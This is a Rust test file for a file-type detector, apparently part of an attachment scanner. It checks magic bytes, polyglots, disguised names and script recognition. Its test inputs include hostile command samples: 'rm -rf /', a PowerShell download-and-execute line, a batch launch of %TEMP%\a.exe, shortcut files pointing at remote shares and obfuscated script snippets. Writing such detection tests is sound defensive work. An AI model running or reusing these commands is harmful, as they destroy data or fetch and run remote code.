#![allow(clippy::arithmetic_side_effects, clippy::string_slice, reason = "small numbers of tests")]

use super::*;
use crate::contents::Trait;
use crate::made;
use proptest::prelude::*;

fn at(place: usize, what: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0; place];
    bytes.extend_from_slice(what);
    bytes.resize(bytes.len() + 600, 0);
    bytes
}

fn tar() -> Vec<u8> {
    let mut head = vec![0_u8; 1_024];
    head[..4].copy_from_slice(b"file");
    head[257..263].copy_from_slice(b"ustar\0");
    head
}

#[test]
fn kinds_with_a_mark_are_known_by_it() {
    let mut fat = b"\xca\xfe\xba\xbe\0\0\0\x02".to_vec();
    fat.resize(64, 0);
    let cases: Vec<(Vec<u8>, Kind)> = vec![
        (made::pe(), Kind::Pe),
        (at(0, b"MZ\x01\x02\x03"), Kind::Dos),
        (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".to_vec(), Kind::Dos),
        (at(0, b"\x7fELF\x02\x01"), Kind::Elf),
        (at(0, b"\xcf\xfa\xed\xfe\x07"), Kind::MachO),
        (fat, Kind::MachO),
        (at(0, b"\xca\xfe\xba\xbe\0\0\x004"), Kind::JavaClass),
        (at(0, b"dex\n035\0"), Kind::Dex),
        (at(0, b"\0asm\x01\0\0\0"), Kind::Wasm),
        (at(0, b"!<arch>\ndebian-binary   "), Kind::Deb),
        (at(0, b"\xed\xab\xee\xdb\x03"), Kind::Rpm),
        (at(0, b"ITSF\x03\0\0\0"), Kind::Chm),
        (at(0, b"CWS\x0a"), Kind::Swf),
        (at(0, b"KDMV\x01\0\0\0"), Kind::VmDisk),
        (at(0, b"MSWIM\0\0\0"), Kind::Wim),
        (at(0, b"\x1f\x8b\x08\0"), Kind::Gzip),
        (at(0, b"BZh91AY&SY"), Kind::Bzip2),
        (at(0, b"\xfd7zXZ\0"), Kind::Xz),
        (at(0, b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff"), Kind::Xz),
        (at(0, b"\x28\xb5\x2f\xfd"), Kind::Zstd),
        (at(0, b"\x1f\x9d\x90"), Kind::Compress),
        (tar(), Kind::Tar),
        (at(0, b"7z\xbc\xaf\x27\x1c\0\x04"), Kind::SevenZip),
        (at(0, b"MSCF\0\0\0\0"), Kind::Cab),
        (at(0, b"Rar!\x1a\x07\x01\0"), Kind::Rar),
        (at(0, b"\x20\x80-lh5-"), Kind::Lha),
        (at(0, b"\x12\x34\x31\0\0\x90\x0e**ACE**"), Kind::Ace),
        (at(0, b"\x60\xea\x29\0\x22\x0b\x01\x02\x10\0\x02"), Kind::Arj),
        (at(0, b"\x78\x9f\x3e\x22"), Kind::Tnef),
        (at(0, b"\x04\x22\x4d\x18"), Kind::OtherArchive),
        (at(0, b"\0\x01\0\0Standard Jet DB"), Kind::Access),
        (at(0, b"\x89PNG\r\n\x1a\n"), Kind::Image),
        (made::gif(), Kind::Image),
        (at(0, b"RIFF\0\0\0\0WAVE"), Kind::Audio),
        (at(4, b"ftypisom"), Kind::Video),
        (at(0, b"wOF2"), Kind::Font),
        (b"\x30\x82\x01\x10\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0".to_vec(), Kind::Pkcs7),
        (b"\x30\x82\x03\x10\x30\x82\x02\x00\xa0\x03\x02\x01\x02".to_vec(), Kind::Certificate),
        (b"-----BEGIN CERTIFICATE-----\nMIIB\n".to_vec(), Kind::Certificate),
        (b"-----BEGIN PGP MESSAGE-----\n\nabc\n".to_vec(), Kind::OpenPgp),
        (b"%PDF-1.7\n".to_vec(), Kind::Pdf),
        (b"{\\rtf1\\ansi hello}".to_vec(), Kind::Rtf),
        (b"{\\rt hello}".to_vec(), Kind::Rtf),
        (b"\r\n {\\rtf1}".to_vec(), Kind::Rtf),
        (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n".to_vec(), Kind::Calendar),
        (b"begin:vcard\r\nend:vcard\r\n".to_vec(), Kind::Contact),
        (b"WEB\r\n1\r\nhttp://example.com/x\r\n".to_vec(), Kind::SheetLink),
        (b"ID;PWXL;N;E\r\n".to_vec(), Kind::SheetLink),
        (Vec::new(), Kind::Empty),
        (b"\x01\x02\x03\x04\x05".to_vec(), Kind::Data),
    ];
    for (bytes, kind) in cases {
        assert_eq!(of(&bytes), kind, "{}", kind.name());
    }
}

/// Attacks E3: ISO, VHD, UDF.
#[test]
fn disk_images_are_known_by_what_stands_deep_within_or_at_the_end() {
    assert_eq!(of(&at(32_769, b"CD001\x01")), Kind::Iso);
    assert_eq!(of(&at(32_769, b"BEA01\x01")), Kind::Iso, "UDF alone");
    assert_eq!(of(&at(32_769 + 2_048, b"NSR03\x01")), Kind::Iso);
    let mut vhd = vec![0; 4_096];
    vhd.extend_from_slice(b"conectix");
    vhd.resize(4_096 + 512, 0);
    assert_eq!(of(&vhd), Kind::Vhd, "a footer alone: the size is fixed");
    assert_eq!(of(&at(0, b"vhdxfile")), Kind::Vhd);
    let mut dmg = vec![0; 4_096];
    dmg.extend_from_slice(b"koly");
    dmg.resize(4_096 + 512, 0);
    assert_eq!(of(&dmg), Kind::Dmg);
    let mut fat = b"\xeb\x3c\x90MSDOS5.0".to_vec();
    fat.resize(510, 0);
    fat.extend_from_slice(b"\x55\xaa");
    assert_eq!(of(&fat), Kind::RawDisk);
}

/// Attacks E3: OneNote, LNK, MSIX.
#[test]
fn onenote_shortcuts_and_packages_are_known() {
    assert_eq!(of(b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3 rest"), Kind::OneNote);
    assert_eq!(of(&at(0, b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F")), Kind::Lnk);
    assert_eq!(of(&made::zip(&[("AppxManifest.xml", b"<Package/>"), ("a.exe", b"MZ")], true)), Kind::Msix);
    for text in [
        "[InternetShortcut]\r\nURL=file://192.0.2.1/x.exe\r\n",
        "; nothing\r\n[InternetShortcut]\r\nURL=http://example.com\r\n",
        "[Desktop Entry]\nType=Application\nExec=sh -c 'curl x'\n",
        "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x\\y.ico\r\n",
        "screen mode id:i:2\r\nfull address:s:192.0.2.1\r\n",
        "<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\"></libraryDescription>",
        "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>http://x</string></dict></plist>",
    ] {
        assert_eq!(of(text.as_bytes()), Kind::UrlFile, "{text}");
    }
}

#[test]
fn what_is_packed_in_a_zip_is_told_by_its_entries() {
    let types = |main: &str| format!("<Types><Override ContentType=\"application/vnd.{main}+xml\"/></Types>");
    let package =
        |main: &str, name: &str| made::zip(&[("[Content_Types].xml", types(main).as_bytes()), (name, b"<x/>")], true);
    assert_eq!(
        of(&package("openxmlformats-officedocument.wordprocessingml.document.main", "word/document.xml")),
        Kind::Docx
    );
    assert_eq!(
        of(&package("ms-word.document.macroEnabled.main", "elsewhere/d.xml")),
        Kind::Docx,
        "folders have any name"
    );
    assert_eq!(of(&package("openxmlformats-officedocument.spreadsheetml.sheet.main", "xl/workbook.xml")), Kind::Xlsx);
    assert_eq!(of(&package("openxmlformats-officedocument.presentationml.presentation.main", "ppt/p.xml")), Kind::Pptx);
    assert_eq!(of(&package("ms-visio.drawing.main", "visio/document.xml")), Kind::Opc);
    assert_eq!(of(&made::zip(&[("mimetype", b"application/vnd.oasis.opendocument.text")], false)), Kind::OpenDocument);
    assert_eq!(of(&made::zip(&[("mimetype", b"application/epub+zip")], false)), Kind::Epub);
    assert_eq!(of(&made::zip(&[("META-INF/MANIFEST.MF", b"Main-Class: A"), ("A.class", b"x")], true)), Kind::Jar);
    assert_eq!(of(&made::zip(&[("AndroidManifest.xml", b"x"), ("classes.dex", b"x")], true)), Kind::Apk);
    assert_eq!(of(&made::zip(&[("a.txt", b"x")], true)), Kind::Zip);
    // The directory is cut off: entries have their own heads.
    let whole = package("openxmlformats-officedocument.wordprocessingml.document.main", "word/document.xml");
    let cut = whole.len() - 60;
    assert_eq!(of(&whole[..cut]), Kind::Docx);
}

#[test]
fn what_is_packed_in_a_compound_file_is_told_by_its_streams() {
    for (stream, kind) in [
        ("WordDocument", Kind::Word),
        ("Workbook", Kind::Excel),
        ("Book", Kind::Excel),
        ("PowerPoint Document", Kind::PowerPoint),
        ("EncryptedPackage", Kind::OfficeEncrypted),
        ("__properties_version1.0", Kind::Msg),
        ("Other", Kind::Ole),
    ] {
        let file = made::compound(&[(stream, b"contents"), ("ObjectPool/_1/Deep", b"x")]);
        assert_eq!(of(&file), kind, "{stream}");
        let torn: Vec<u8> =
            file.iter().enumerate().map(|(at, b)| if (48..52).contains(&at) { 0xee } else { *b }).collect();
        assert_eq!(of(&torn), kind, "{stream}, the way to the directory is damaged");
    }
    // An attached document doesn't make a message a document.
    let message = made::compound(&[("__properties_version1.0", b"x"), ("__attach/WordDocument", b"x")]);
    assert_eq!(of(&message), Kind::Msg);
    let mut installer = made::compound(&[("Other", b"x")]);
    let sector = 1 << installer[30];
    let root = (usize::from(installer[48]) + 1) * sector;
    installer[root + 80..root + 96].copy_from_slice(b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0F");
    assert_eq!(of(&installer), Kind::Msi);
}

#[test]
fn scripts_are_known_without_a_name() {
    let cases: &[(&str, Kind)] = &[
        ("#!/bin/sh\nrm -rf /\n", Kind::Shell),
        ("\r\n@echo off\r\nstart calc.exe\r\n", Kind::Batch),
        ("set x=1\r\ncmd /c start %TEMP%\\a.exe >nul\r\n", Kind::Batch),
        ("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", Kind::JavaScript),
        ("eval(String.fromCharCode(97,108,101));", Kind::JavaScript),
        ("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", Kind::VbScript),
        ("On Error Resume Next\r\nDim x\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\n", Kind::VbScript),
        ("#@~^XgAAAA==v,1Ws:nxD@#@&", Kind::VbScript),
        ("$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://example.com/a'))\n", Kind::PowerShell),
        ("$x = Get-ChildItem\nforeach ($y in $x) { Start-Process $y }\n", Kind::PowerShell),
        ("<?xml version='1.0'?>\n<job><script language='JScript'>x()</script></job>", Kind::ScriptPage),
        ("<package><job id='a'><script language='VBScript'>x</script></job></package>", Kind::ScriptPage),
        ("<html><head><HTA:APPLICATION id='a'/></head></html>", Kind::ScriptPage),
        ("<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'></MMC_ConsoleFile>", Kind::ScriptPage),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\X]\r\n", Kind::Registry),
        ("[Version]\r\nSignature=\"$CHICAGO$\"\r\n", Kind::Inf),
    ];
    for (text, kind) in cases {
        assert_eq!(of(text.as_bytes()), *kind, "{text}");
        let mut wide = b"\xff\xfe".to_vec();
        wide.extend(made::wide(text));
        assert_eq!(of(&wide), *kind, "in UTF-16: {text}");
        assert_eq!(of(&made::wide(text)), *kind, "in UTF-16 without its mark: {text}");
    }
}

#[test]
fn pages_are_known_behind_marks_blanks_comments_and_rubbish() {
    for text in [
        "<!DOCTYPE html><html></html>",
        "\u{feff}\n\n <html><body>x</body></html>",
        "<!-- saved --><!-- twice -->\n<HTML>x",
        "<?xml version='1.0'?><!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN'><html xmlns='x'/>",
        "<div>Hello</div>",
        "<a href='http://example.com'>x</a>",
        "xxxx;;;;\n<script>x()</script>",
    ] {
        assert_eq!(of(text.as_bytes()), Kind::Html, "{text}");
    }
    let mut binary = vec![1, 2, 3, 0, 0xff];
    binary.extend_from_slice(b"<html><script>x</script></html>");
    assert_eq!(of(&binary), Kind::Html);
    assert_eq!(of(b"<svg xmlns='http://www.w3.org/2000/svg'/>"), Kind::Svg);
    assert_eq!(of(b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>"), Kind::Svg);
    assert_eq!(of(b"<?xml version='1.0'?><note/>"), Kind::Xml);
    assert_eq!(
        of(b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument/>"),
        Kind::OfficeXml
    );
}

#[test]
fn messages_are_known_and_quoted_fields_are_none() {
    assert_eq!(of(b"Received: from a\r\n\tby b\r\nFrom: a@example.com\r\nSubject: x\r\n\r\nHello\r\n"), Kind::Mail);
    assert_eq!(of(b"From a@example.com Mon Jan  1\nFrom: a\nMIME-Version: 1.0\n\nHello\n"), Kind::Mail);
    assert_eq!(
        of(b"MIME-Version: 1.0\nContent-Type: multipart/related;\n boundary=x\n\n--x\nContent-Location: file:///a.htm\n\n"),
        Kind::Mhtml
    );
    assert_eq!(of(b"From: Anna\nSent: Monday\nTo: Ben\nSubject: lunch\n\nAt noon?\n"), Kind::PlainText);
    assert_eq!(of(b"Note: this is not a message\n\nreally\n"), Kind::PlainText);
}

const ORDINARY: &[&str] = &[
    "Hello Ben,\n\nplease add this to the login script, and tell me if it works:\n\n@echo off\nnet use h: \\\\server\\home\n\nThanks\nAnna\n",
    "To list the files you can run Get-ChildItem, or Get-Content for one of them. It costs $5 a month.\n",
    "The sub was late. Set the table, dim the lights, and call me when you are done.\nOn error resume next week.\n",
    "name,price,stock\nApple,1.20,5\n\"Pear, green\",2.10,7\n",
    "{\"name\": \"x\", \"list\": [1, 2, 3], \"script\": \"eval(x)\"}\n",
    "fn main() {\n    println!(\"hello\");\n}\n",
    "#include <stdio.h>\nint main(void) { printf(\"%d\\n\", 1); return 0; }\n",
    "import os\n\ndef main():\n    print(os.environ['HOME'])\n",
    "function add(a, b) {\n  return a + b;\n}\nmodule.exports = { add };\n",
    "public class A { public static void main(String[] a) { System.out.println(\"x\"); } }\n",
    "SELECT * FROM users WHERE id = 1;\n",
    ".page { color: red; } .page > a:hover { color: blue }\n",
    "-- Anna\n> On Monday you wrote:\n> Set x = CreateObject(\"WScript.Shell\")\n> is what the manual says\n\nIt is not what I would do, as it is old.\n",
    "You can add this to your page, just before the end of the body:\n\n<script src=\"https://example.com/a.js\"></script>\n\nBest regards\n",
    "<anna@example.com> wrote:\n> are you coming?\nYes.\n",
    "100% of the people said yes; 50% of them twice. See you at the meeting.\n",
    "2026-11-26 10:00:00 INFO started pid=12\n2026-11-26 10:00:01 WARN slow\n",
    "MZ is how such files begin.\n",
    "#![forbid(unsafe_code)]\n//! A crate.\nfn main() {}\n",
    "sub quote { my $x = shift; eval($x); $x =~ s/\\x22/x/g; return $x; }\n",
    "let &shell = 'powershell.exe'\nset keywordprg=powershell\\ -NoLogo\n",
    "BM was the name of the company.\n",
    "PK and I will be there.\n",
    "[main]\nkey = value\n\n[other]\nkey = value\n",
    "key: value\nlist:\n  - one\n  - two\n",
    "Gr\u{fc}\u{df}e aus K\u{f6}ln, bis n\u{e4}chste Woche!\n",
    "\u{65e5}\u{672c}\u{8a9e}\u{306e}\u{6587}\u{7ae0}\n",
];

#[test]
fn ordinary_text_is_text() {
    for text in ORDINARY {
        assert_eq!(of(text.as_bytes()), Kind::PlainText, "{text}");
        assert_eq!(others(text.as_bytes()), [], "{text}");
    }
    assert_eq!(of(b"Gr\xfc\xdfe aus K\xf6ln\n"), Kind::PlainText, "Latin-1");
}

/// Attacks E3: polyglots.
#[test]
fn a_file_that_is_two_things_is_told_to_be_both() {
    let archive = made::zip(&[("a.txt", b"hello")], true);
    let joined = |first: &[u8]| [first, &archive].concat();
    assert_eq!(others(&joined(&made::gif())), [Kind::Zip], "an archive behind a picture");
    assert_eq!(others(&joined(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n\0")), [Kind::Zip]);
    assert_eq!(others(&joined(&made::pe())), [Kind::Zip]);
    let jar = made::zip(&[("META-INF/MANIFEST.MF", b"x")], true);
    assert_eq!(others(&[made::gif(), jar].concat()), [Kind::Jar]);
    let mut page = made::gif();
    page.extend_from_slice(b"<html><script>alert(1)</script></html>");
    assert_eq!((of(&page), others(&page)), (Kind::Image, vec![Kind::Html]));
    let mut hta = at(0, b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F");
    hta.extend_from_slice(b"<HTA:APPLICATION><script>x</script>");
    assert_eq!(others(&hta), [Kind::ScriptPage]);
    let late = made::zip(&[("a.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n")], false);
    assert_eq!((of(&late), others(&late)), (Kind::Zip, vec![Kind::Pdf]), "a PDF near an archive's beginning");
    let mut rar = made::pe();
    rar.extend_from_slice(b"Rar!\x1a\x07\x01\0");
    assert_eq!(others(&rar), [Kind::Rar]);
    let mut disk = made::gif();
    disk.resize(32_769, 0);
    disk.extend_from_slice(b"CD001\x01");
    assert_eq!(others(&disk), [Kind::Iso]);
    assert_eq!(others(&made::gif()), []);
    assert_eq!(others(&archive), []);
}

#[test]
fn rubbish_before_a_pdf_does_not_hide_it() {
    assert_eq!(of(b"rubbish rubbish\n%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"), Kind::Pdf);
    assert_eq!(of(b"A file that begins with %PDF- is one.\n"), Kind::PlainText);
}

/// Attacks E3: wrong extension.
#[test]
fn a_name_or_a_type_that_lies_is_told() {
    let says = |name: &str, kind| disagree(&[name.to_owned()], "", kind);
    assert_eq!(says("a.7z", Kind::Zip), [Trait::NameSays("7z".into())]);
    assert_eq!(says("a.7z", Kind::Xlsx), [Trait::NameSays("7z".into())], "a workbook hides from what opens only ZIPs");
    assert_eq!(says("a.pdf", Kind::Pe), [Trait::NameSays("pdf".into())]);
    assert_eq!(says("a.jpg", Kind::Html), [Trait::NameSays("jpg".into())]);
    assert_eq!(says("a.txt", Kind::VbScript), [Trait::NameSays("txt".into())]);
    assert_eq!(says("a.docx", Kind::Iso), [Trait::NameSays("docx".into())]);
    assert_eq!(says("a.pdf", Kind::Zip), [Trait::NameSays("pdf".into())]);
    assert_eq!(says("a.pdf.exe", Kind::Pe), [Trait::NameHides]);
    let declared = |declared: &str, kind| disagree(&[], declared, kind);
    assert_eq!(declared("image/png", Kind::Pe), [Trait::TypeSays]);
    assert_eq!(declared("application/pdf", Kind::Html), [Trait::TypeSays]);
    assert_eq!(declared("text/plain", Kind::Zip), [Trait::TypeSays]);
    assert_eq!(declared("application/msword", Kind::Pe), [Trait::TypeSays]);
}

#[test]
fn ordinary_mail_agrees_with_itself() {
    for (name, declared, kind) in [
        ("report.pdf", "application/octet-stream", Kind::Pdf),
        ("photo.jpeg", "image/jpg", Kind::Image),
        ("photo.png", "image/jpeg", Kind::Image),
        ("list.csv", "text/plain", Kind::PlainText),
        ("list.csv", "application/vnd.ms-excel", Kind::PlainText),
        ("letter.docx", "application/zip", Kind::Docx),
        ("letter.docm", "application/vnd.ms-word.document.macroEnabled.12", Kind::Docx),
        ("letter.doc", "application/msword", Kind::Rtf),
        ("letter.doc", "application/msword", Kind::Docx),
        ("export.xls", "application/vnd.ms-excel", Kind::Html),
        ("export.xls", "application/vnd.ms-excel", Kind::OfficeXml),
        ("page.txt", "text/plain", Kind::Html),
        ("note.txt", "text/html", Kind::PlainText),
        ("old.eml", "message/rfc822", Kind::Mail),
        ("old.eml", "application/octet-stream", Kind::Mail),
        ("logs.tar.gz", "application/x-gzip", Kind::Gzip),
        ("logs.tgz", "application/x-compressed-tar", Kind::Gzip),
        ("invite.ics", "text/calendar", Kind::Calendar),
        ("winmail.dat", "application/ms-tnef", Kind::Tnef),
        ("smime.p7s", "application/pkcs7-signature", Kind::Pkcs7),
        ("signature.asc", "application/pgp-signature", Kind::OpenPgp),
        ("voice.m4a", "audio/mp4", Kind::Video),
        ("drawing.svg", "image/svg+xml", Kind::Svg),
        ("book.epub", "application/epub+zip", Kind::Epub),
        ("sheet.ods", "application/vnd.oasis.opendocument.spreadsheet", Kind::OpenDocument),
        ("setup.exe", "application/x-msdownload", Kind::Pe),
        ("tool.sh", "text/x-sh", Kind::Shell),
        ("unknown.xyz", "application/x-xyz", Kind::Pe),
        ("", "", Kind::Zip),
    ] {
        assert_eq!(disagree(&[name.to_owned()], declared, kind), [], "{name} {declared} {}", kind.name());
    }
}

proptest! {
    #[test]
    fn any_bytes_are_something(bytes in prop::collection::vec(any::<u8>(), 0..2_000)) {
        let _ = (of(&bytes), others(&bytes));
    }

    #[test]
    fn any_bytes_behind_a_mark_are_something(place in 0..MARKS.len(), bytes in prop::collection::vec(any::<u8>(), 0..2_000)) {
        let mut marked = MARKS[place].to_vec();
        marked.extend_from_slice(&bytes);
        let _ = (of(&marked), others(&marked));
    }

    #[test]
    fn any_name_says_something_or_nothing(name in ".{0,60}", declared in "[a-z]{0,5}/?[a-z]{0,5}") {
        let _ = (by_name(&name), hides(&name));
        for kind in Kind::ALL {
            let _ = disagree(std::slice::from_ref(&name), &declared, *kind);
            let _ = readings(*kind, std::slice::from_ref(&name), &declared);
        }
    }
}

const MARKS: &[&[u8]] = &[
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"MZ",
    b"\x30\x82",
    b"\x99",
    b"<",
    b"<?xml ",
    b"<!doctype ",
    b"BM",
];
